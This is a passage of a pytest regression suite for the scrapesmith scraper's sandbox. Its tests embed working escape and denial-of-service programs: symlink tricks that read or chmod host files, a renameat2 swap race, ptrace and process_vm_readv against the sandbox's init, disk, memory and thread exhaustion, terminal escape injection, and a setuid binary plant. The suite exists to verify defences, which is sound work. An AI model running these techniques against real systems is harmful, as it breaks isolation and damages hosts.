        ctypes.CDLL(None).symlink(b"{{outside}}/planted.pth", b"rerun.report.html")
        open("dataset.csv", "w").write("title\\nplanted\\n")
    """)
    probe = subprocess.run([sys.executable, "-c", f"import site; site.addsitedir({str(outside)!r})"], check=False,
                           capture_output=True, text=True, env={**os.environ, "PTH_PROBE": "1"}, timeout=60)
    assert "ESCAPED" not in probe.stdout
    assert not (outside / "planted.pth").exists()


def test_a_dataset_linked_to_an_outside_file_read_into_the_output(arena):
    _run_dir, outside = arena
    (outside / "secret.csv").write_text(f"title\n{SECRET}\n")
    rerun_attack(arena, """
        import ctypes
        ctypes.CDLL(None).symlink(b"{outside}/secret.csv", b"dataset.csv")
    """, output="out.jsonl")


def test_failures_linked_to_an_outside_file_read_into_the_record(arena):
    _run_dir, outside = arena
    (outside / "secret.json").write_text(f'[{{"url": "{SECRET}", "item": "", "error": "x"}}]')
    rerun_attack(arena, """
        import ctypes
        ctypes.CDLL(None).symlink(b"{outside}/secret.json", b"failures.json")
        open("dataset.csv", "w").write("title\\nplanted\\n")
    """)


@pytest.mark.parametrize("name", ["rerun.run.json", "rerun.report.html"])
def test_a_fifo_that_hangs_the_parent(arena, name):
    """A FIFO where the parent writes: opening it for writing waits for a reader forever."""
    run_dir, _outside = arena
    program = run_dir / "program.py"
    program.write_text(f"import os\nos.mkfifo({name!r})\nopen('dataset.csv', 'w').write('title\\nx\\n')\n")
    rerun = ("import sys\nfrom scrapesmith.collect.program import rerun_program\n"
             f"try:\n    rerun_program({str(program)!r}, [])\nexcept Exception as exc:\n    sys.exit(str(exc))\n")
    caller = subprocess.Popen([sys.executable, "-c", rerun],
                              env={**os.environ, "PYTHONPATH": str(Path(scrapesmith.__file__).parents[1])})
    try:
        caller.wait(timeout=40)
    except subprocess.TimeoutExpired:
        caller.kill()
        caller.wait()
        pytest.fail(f"the parent hung on the program's {name}")
    assert _alive(str(program)) == []


def test_a_reruns_link_planted_by_the_first_run(arena):
    """The first run (beside the program, as ``collect`` runs it) plants ``reruns`` as a link outside; a
    rerun then made its folder there, bound it writable into the sandbox and wrote its record in it."""
    run_dir, outside = arena
    program = run_dir / "program.py"
    program.write_text(textwrap.dedent(f"""
        import ctypes, os
        if not os.path.lexists("reruns") and not os.path.lexists({str(run_dir / "reruns")!r}):
            ctypes.CDLL(None).symlink({str(outside).encode()!r}, b"reruns")
        open("dataset.csv", "w").write("title\\nplanted\\n")
    """))
    before = _snapshot(run_dir.parent, run_dir)
    run_program_file(program, [])
    with contextlib.suppress(ScrapesmithError, OSError):
        rerun_program(program, [])
    assert _snapshot(run_dir.parent, run_dir) == before, "the rerun wrote outside the run directory"


def test_a_program_rewriting_itself_for_the_next_rerun(arena):
    """Run beside itself (as ``collect`` runs it), a program could append to its own ``program.py``: code the
    user never reviewed would run at the next ``scrapesmith run``, with the hosts and files granted then."""
    run_dir, _outside = arena
    program = run_dir / "program.py"
    program.write_text('open(__file__, "a").write("\\nprint(\\"ESCAPED\\")\\n")\n')
    text = program.read_text()
    run_program_file(program, [])
    assert program.read_text() == text


def test_a_collect_report_written_through_a_planted_link(arena):
    """A program run in the collect run directory plants ``report.html`` as a link: the report the
    parent draws afterwards went through it."""
    from scrapesmith.report import write_report

    run_dir, outside = arena
    program = run_dir / "program.py"
    program.write_text(textwrap.dedent(f"""
        import ctypes, json
        json.dump({{"rows": 0, "finished": True}}, open("result.json", "w"))
        ctypes.CDLL(None).symlink({str(outside / "victim.txt").encode()!r}, b"report.html")
    """))
    before = _snapshot(run_dir.parent, run_dir)
    run_in_sandbox(program, run_dir, [])
    with contextlib.suppress(ScrapesmithError):
        write_report(run_dir)
    assert (outside / "victim.txt").read_text() == "untouched"
    assert _snapshot(run_dir.parent, run_dir) == before


# 400 MB written with libc's open and write (Python's open would stop at the audit hook, the second layer).
HOARD = """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    place = {place}
    fd = libc.open(place.encode(), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    if fd < 0:
        raise SystemExit(f"open refused, errno {{ctypes.get_errno()}}")
    chunk = b"x" * 2**20
    for _ in range(400):
        if libc.write(fd, chunk, len(chunk)) != len(chunk):
            raise SystemExit(f"write stopped, errno {{ctypes.get_errno()}}")
    print("ESCAPED 400 MB in", place)
"""


@pytest.mark.parametrize("place", ["/dev/shm/hoard", "/dev/hoard"])
def test_memory_hoarded_in_a_dev_tmpfs_past_the_limit(arena, listeners, place):
    """tmpfs pages are no process's address space: 400 MB there passed a 200 MB memory limit."""
    attack(arena, listeners, HOARD, limits=_limits(memory_mb=200, wall_seconds=20, cpu_seconds=30), place=repr(place))


def test_memory_hoarded_in_the_scratch_tmpfs_past_the_limit(arena, listeners):
    attack(arena, listeners, HOARD, limits=_limits(memory_mb=200, wall_seconds=20, cpu_seconds=30),
           place='os.environ["TMPDIR"] + "/hoard"')


def test_memory_hoarded_in_a_memfd_past_the_limit(arena, listeners):
    """A memfd's pages are not in the address space either; only a memory cgroup counts them."""
    if not _memory_cgroup_possible():
        pytest.skip("this machine gives this process no memory cgroup to make")
    attack(arena, listeners, """
        import os
        fd = os.memfd_create("hoard")
        for _ in range(400):
            os.write(fd, b"x" * 2**20)
        print("ESCAPED 400 MB in a memfd")
    """, limits=_limits(memory_mb=200, wall_seconds=20, cpu_seconds=30))


def _memory_cgroup_possible() -> bool:
    try:
        from scrapesmith.collect.limits import MemoryCgroup
    except ImportError:  # before issue 29 there was none to make: run the attack
        return True
    cgroup = MemoryCgroup.create(2**30)
    if cgroup is not None:
        cgroup.remove()
    return cgroup is not None


def test_disk_filled_file_by_file_under_the_per_file_limit(arena, listeners):
    """Each file below the file-size limit, together past any quota (here 20 MB, written at 100 MB/s)."""
    attack(arena, listeners, """
        import time
        for index in range(300):
            with open(f"fill-{{index}}", "wb") as fill:
                fill.write(b"x" * 2**20)
            time.sleep(0.01)
        print("ESCAPED 300 MB written")
    """, limits=_limits(disk_mb=20, wall_seconds=20, cpu_seconds=30))


def test_disk_filled_through_files_deleted_while_open(arena, listeners):
    """A file unlinked but held open takes disk space no walk of the folder sees."""
    attack(arena, listeners, """
        import os, time
        held = []
        for index in range(300):
            fill = open(f"fill-{{index}}", "wb")
            os.unlink(f"fill-{{index}}")
            fill.write(b"x" * 2**20)
            fill.flush()
            held.append(fill)
            time.sleep(0.01)
        print("ESCAPED 300 MB held in deleted files")
    """, limits=_limits(disk_mb=20, wall_seconds=20, cpu_seconds=30))


def test_inodes_exhausted_with_empty_files(arena, listeners):
    attack(arena, listeners, """
        import os
        os.mkdir("many")
        for index in range(30000):
            open(f"many/{{index}}", "w").close()
        print("ESCAPED 30000 files")
    """, limits=_limits(max_files=2000, wall_seconds=20, cpu_seconds=30))


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_output_flooding_the_parents_memory(arena, listeners, stream):
    """64 MB printed: the parent kept every byte of it (256 MB raised it from 59 MB to 827 MB)."""
    result = attack(arena, listeners, """
        import sys
        for _ in range(64):
            sys.{stream}.write("y" * 2**20)
        raise SystemExit("flooded")
    """, stream=stream)
    assert len(getattr(result, stream)) < 2**20


def test_writing_escape_sequences_to_the_callers_terminal(arena, listeners):
    """With the caller's terminal as stdin (opened read-write), the program wrote straight to it."""
    master, terminal = os.openpty()
    saved = os.dup(0)
    os.dup2(terminal, 0)
    try:
        attack(arena, listeners, """
            import os
            if not os.isatty(0):
                raise SystemExit("stdin is no terminal")
            os.write(0, b"\\x1b]0;owned\\x07\\x1b[2J")
            print("ESCAPED: wrote to the terminal")
        """)
    finally:
        os.dup2(saved, 0)
        os.close(saved)
        os.close(terminal)
    os.set_blocking(master, False)
    try:
        reached = os.read(master, 100)
    except OSError:  # nothing written (EAGAIN), or the other end is gone (EIO)
        reached = b""
    os.close(master)
    assert reached == b""


def test_reading_a_host_file_given_as_stdin(arena, listeners):
    _run_dir, outside = arena
    saved = os.dup(0)
    secret = os.open(outside / "secret.txt", os.O_RDONLY)
    os.dup2(secret, 0)
    try:
        attack(arena, listeners, """
            import sys
            data = sys.stdin.read()
            if data:
                print("ESCAPED", data)
            raise SystemExit("stdin was empty")
        """)
    finally:
        os.dup2(saved, 0)
        os.close(saved)
        os.close(secret)


def test_escape_sequences_in_the_error_line_the_caller_prints(arena, listeners):
    """The error tail goes into the one-line error ``scrapesmith run`` prints on the user's terminal."""
    result = attack(arena, listeners, """
        import sys
        sys.stderr.write("\\x1b]52;c;b3duZWQ=\\x07\\x1b[2J\\x1b[31mall good\\n")
        raise SystemExit(1)
    """)
    assert "\x1b" not in result.stderr and "\x07" not in result.summary()


def test_writing_beside_the_proxy_socket(arena, listeners):
    attack(arena, listeners, """
        import ctypes, os
        folder = os.path.dirname(os.environ["SCRAPESMITH_SANDBOX_PROXY"].removeprefix("unix:"))
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.open(os.path.join(folder, "planted").encode(), os.O_WRONLY | os.O_CREAT, 0o600) >= 0:
            print("ESCAPED wrote in", folder)
        raise SystemExit(f"refused, errno {{ctypes.get_errno()}}")
    """)


def test_removing_the_proxy_socket(arena, listeners):
    attack(arena, listeners, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unlink(os.environ["SCRAPESMITH_SANDBOX_PROXY"].removeprefix("unix:").encode()) == 0:
            print("ESCAPED removed the socket")
        raise SystemExit(f"refused, errno {{ctypes.get_errno()}}")
    """)


def test_credentials_in_a_redirect_kept_in_the_page_url_and_archive(arena, listeners, redirecting_site):
    """A site redirects to ``http://user:password@…``: the password stayed in ``Page.url`` and the WARC."""
    run_dir, _outside = arena
    result = attack(arena, listeners, """
        from scrapesmith.collect.runtime import Collection
        with Collection("c", allow_hosts=["127.0.0.1:{site}"], delay=0) as run:
            page = run.fetch("http://127.0.0.1:{site}/start")
            print("landed at", page.url)
        raise SystemExit("fetched")
    """, allow=[f"127.0.0.1:{redirecting_site}"], site=str(redirecting_site))
    assert f"landed at http://127.0.0.1:{redirecting_site}/landing" in result.stdout
    assert PASSWORD not in result.stdout + result.stderr
    assert PASSWORD.encode() not in gzip.decompress((run_dir / "pages.warc.gz").read_bytes())


def test_credentials_in_a_refused_redirect_kept_in_the_error_and_log(arena, listeners, redirecting_site):
    result = attack(arena, listeners, """
        from scrapesmith.collect.runtime import Collection
        with Collection("c", allow_hosts=["127.0.0.1:{site}"], delay=0) as run:
            try:
                run.fetch("http://127.0.0.1:{site}/elsewhere")
            except Exception as exc:
                print("refused:", exc)
        raise SystemExit("done")
    """, allow=[f"127.0.0.1:{redirecting_site}"], site=str(redirecting_site))
    assert "refused:" in result.stdout
    assert PASSWORD not in result.stdout + result.stderr


@pytest.mark.parametrize("content", [b"title\n\xff\xfe not UTF-8\n", b"title\n" + b"z" * 200_000 + b"\n"],
                         ids=["invalid-utf8", "200kB-field"])
def test_a_dataset_that_ends_the_parent_with_a_traceback(arena, content):
    """The parent must say in one line what is wrong with the dataset, and mark the rerun failed."""
    run_dir, _outside = arena
    error = rerun_attack(arena, """
        open("dataset.csv", "wb").write({content!r})
    """, content=content)
    assert error is not None and "\n" not in str(error) and "dataset" in str(error)
    records = list(run_dir.glob("reruns/*/rerun.run.json"))
    assert len(records) == 1 and json.loads(records[0].read_text())["failed"] is True


def test_a_set_user_id_output_left_for_the_caller(arena, listeners):
    """An output made set-user-ID by its owner, the caller (root here): moved as it was into the run
    directory, any local user could run it as the caller."""
    run_dir, _outside = arena
    result = attack(arena, listeners, """
        import os, shutil, sys
        shutil.copyfile(sys.executable, "dataset.csv")
        os.chmod("dataset.csv", 0o6755)
        raise SystemExit("left dataset.csv set-user-ID")
    """)
    assert (run_dir / "dataset.csv").exists(), result.stderr
    mode = (run_dir / "dataset.csv").stat().st_mode
    assert not mode & (stat.S_ISUID | stat.S_ISGID | 0o111), oct(mode)


# ---- The parent side: links in the clean-up and the takeover, ptrace, threads (issue 43) ----


def test_a_link_to_a_host_folder_left_for_the_clean_up(arena, listeners):
    """The clean-up listed a link to a folder as a folder and ``chmod`` followed it: any host folder became
    mode 700, no race needed (also from inside a folder the program locked)."""
    _run_dir, outside = arena
    (outside / "deep").mkdir()
    for folder in (outside, outside / "deep"):
        folder.chmod(0o755)
    attack(arena, listeners, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)  # past the audit hook, which refuses a link to outside
        os.mkdir("locked")
        for target, name in ((b"{outside}", b"host"), (b"{outside}/deep", b"locked/deeper")):
            if libc.symlink(target, name) != 0:
                raise SystemExit(f"symlink refused, errno {{ctypes.get_errno()}}")
        os.chmod("locked", 0)
        raise SystemExit("left links to host folders")
    """)
    assert stat.S_IMODE(outside.stat().st_mode) == 0o755
    assert stat.S_IMODE((outside / "deep").stat().st_mode) == 0o755


def _renameat2_exchange():
    """``renameat2(…, RENAME_EXCHANGE)`` through libc: swaps two names in one step."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    at_fdcwd, rename_exchange = -100, 2

    def exchange(first: bytes, second: bytes) -> int:
        return libc.renameat2(at_fdcwd, first, at_fdcwd, second, rename_exchange)

    return exchange


def test_an_output_swapped_for_a_link_while_it_is_taken_over(tmp_path):
    """A program still alive while the parent takes its outputs over (how issue 43 #3 gets one) swaps
    ``dataset.csv`` with a link, ``renameat2`` exchange in a loop: the parent checked the name without
    following links, then ``chmod``-ed the name, following the link swapped in: a root-only file outside
    became 0644. Played here by a thread of the test, so each try races for sure."""
    from scrapesmith.collect.outputs import fresh_program_folder, harvest

    host = tmp_path / "host"
    host.mkdir()
    secret = host / "root-only.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    exchange = _renameat2_exchange()
    deadline = time.monotonic() + 20
    tries = 0
    while time.monotonic() < deadline and tries < 300:
        tries += 1
        run_dir = tmp_path / f"run-{tries}"
        run_dir.mkdir()
        folder = fresh_program_folder(run_dir)
        (folder / "dataset.csv").write_text("title\nx\n")
        (folder / "swap").symlink_to(secret)
        names = (os.fsencode(folder / "dataset.csv"), os.fsencode(folder / "swap"))
        stop = threading.Event()

        def swap(stop=stop, names=names) -> None:
            while not stop.is_set() and exchange(*names) == 0:
                pass

        swapper = threading.Thread(target=swap, daemon=True)
        swapper.start()
        try:
            harvest(folder, run_dir)
        finally:
            stop.set()
            swapper.join(timeout=5)
        assert stat.S_IMODE(secret.stat().st_mode) == 0o600, f"the host file's mode changed (try {tries})"
        assert not (run_dir / "dataset.csv").is_symlink()
        assert not folder.exists()
    assert secret.read_text() == SECRET


def test_ptrace_and_process_vm_on_the_sandboxs_init(arena, listeners):
    """bwrap's init (pid 1 inside: same user, dumpable) could be traced: its parent-death signal cleared and
    its exit faked, ``run`` reported success while the program went on. ptrace, process_vm_readv/writev and
    pidfd_getfd are refused."""
    attack(arena, listeners, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_DETACH = 16, 0x4206, 17
        reached = []
        for request in (PTRACE_SEIZE, PTRACE_ATTACH):
            if libc.ptrace(request, 1, 0, 0) == 0:
                reached.append(f"ptrace {{request:#x}}")
                libc.ptrace(PTRACE_DETACH, 1, 0, 0)
        buffer = ctypes.create_string_buffer(8)
        class iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        local = iovec(ctypes.cast(buffer, ctypes.c_void_p), 8)
        maps = open("/proc/1/maps").readline() if os.access("/proc/1/maps", os.R_OK) else ""
        start = int(maps.split("-")[0], 16) if maps else 0x400000
        remote = iovec(start, 8)
        if libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8:
            reached.append("process_vm_readv")
        pidfd = libc.syscall(434, 1, 0)  # pidfd_open
        if pidfd >= 0 and libc.syscall(438, pidfd, 0, 0) >= 0:  # pidfd_getfd: init's descriptor 0
            reached.append("pidfd_getfd")
        if reached:
            print("ESCAPED", reached)
        raise SystemExit(f"refused, errno {{ctypes.get_errno()}}")
    """)


def test_threads_past_the_process_limit(arena, listeners):
    """Root ignores RLIMIT_NPROC and seccomp lets threads through: 1,501 threads past the limit of 256 (with
    pid_max at 32,768 a program could stop every fork on the host). The run's pids cgroup holds."""
    result = attack(arena, listeners, """
        import threading, time
        threading.stack_size(256 * 1024)
        stop = threading.Event()
        started = 0
        try:
            for _ in range(1200):
                threading.Thread(target=stop.wait, daemon=True).start()
                started += 1
        except RuntimeError as exc:
            print("stopped:", exc)
        print("threads:", started)
        if started > 300:
            print("ESCAPED", started, "threads")
        stop.set()
        raise SystemExit("threads")
    """, limits=_limits(max_processes=256, wall_seconds=30, cpu_seconds=30))
    assert "threads:" in result.stdout, result.stderr


def test_disk_filled_through_deleted_files_kept_mapped(arena, listeners):
    """A deleted file kept alive by a one-page ``mmap`` (libc's: Python's keeps a descriptor) holds its
    whole size on disk, and neither the folder nor the open descriptors show it: 2.4 GB past 2 GB."""
    attack(arena, listeners, """
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                              ctypes.c_long]
        held = []
        for index in range(300):
            with open(f"fill-{{index}}", "wb") as fill:
                fill.write(b"x" * 2**20)
            fd = os.open(f"fill-{{index}}", os.O_RDONLY)
            held.append(libc.mmap(None, 4096, 1, 1, fd, 0))  # PROT_READ, MAP_SHARED
            os.close(fd)
            os.unlink(f"fill-{{index}}")
            time.sleep(0.01)
        print("ESCAPED 300 MB held in deleted files, mapped")
    """, limits=_limits(disk_mb=20, wall_seconds=20, cpu_seconds=30))


RERUN_IN_CHILD = """
import json, resource, sys
from scrapesmith.collect.program import rerun_program
from scrapesmith.errors import ScrapesmithError
try:
    rerun = rerun_program(sys.argv[1], [])
    error = None
    rows = rerun.rows
except ScrapesmithError as exc:
    error, rows = str(exc), None
print(json.dumps({"error": error, "rows": rows,
                  "peak_mb": int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) // 1024}))
"""


def _rerun_in_child(arena, body: str) -> dict:
    """``scrapesmith run program.py`` in a child process: its one-line error, rows and peak memory."""
    run_dir, _outside = arena
    program = run_dir / "program.py"
    program.write_text(textwrap.dedent(body))
    done = subprocess.run([sys.executable, "-c", RERUN_IN_CHILD, str(program)], capture_output=True, text=True,
                          timeout=300, check=False,
                          env={**os.environ, "PYTHONPATH": str(Path(scrapesmith.__file__).parents[1])})
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    reports = list(run_dir.glob("reruns/*/rerun.report.html"))
    assert len(reports) == 1 and reports[0].stat().st_size < 5 * 2**20, [r.stat().st_size for r in reports]
    assert _alive(str(program)) == []
    return result


READ_BACK_PEAK_MB = 200  # the child's whole peak (VmHWM): 93 MB here for the rows below, 395 MB on a8d56ea


def test_a_dataset_of_one_character_rows_read_back_whole(arena):
    """3 MB of one-character rows (1.5 million): the parent made a dict of each, 8 MB took 1.8 GB and 46 s.
    Read back as a stream, the rows are counted in bounded memory."""
    result = _rerun_in_child(arena, """
        open("dataset.csv", "w").write("a\\n" + "b\\n" * 1_500_000)
    """)
    assert result["error"] is None and result["rows"] == 1_500_000, result
    assert result["peak_mb"] < READ_BACK_PEAK_MB, result


def test_a_dataset_of_300000_columns(arena):
    """A header of 300,000 columns: every row became a dict of 300,000 keys (2.9 MB took 1.8 GB)."""
    result = _rerun_in_child(arena, """
        columns = 300_000
        with open("dataset.csv", "w") as out:
            out.write(",".join(f"c{index}" for index in range(columns)) + "\\n")
            for _ in range(8):
                out.write("," * (columns - 1) + "\\n")
    """)
    assert result["error"] is not None and "\n" not in result["error"] and "columns" in result["error"], result
    assert result["peak_mb"] < READ_BACK_PEAK_MB, result


def test_a_failures_file_of_millions_of_items(arena):
    """8 MB of ``{}`` in failures.json: 3.1 GB in the parent, 35 s and a 287 MB report. Past 10,000
    failures the rerun is one line and marked failed."""
    result = _rerun_in_child(arena, """
        open("dataset.csv", "w").write("title\\nx\\n")
        open("failures.json", "w").write("[" + ",".join(["{}"] * 2_000_000) + "]")
    """)
    assert result["error"] is not None and "failures" in result["error"] and "\n" not in result["error"], result
    assert result["peak_mb"] < READ_BACK_PEAK_MB, result

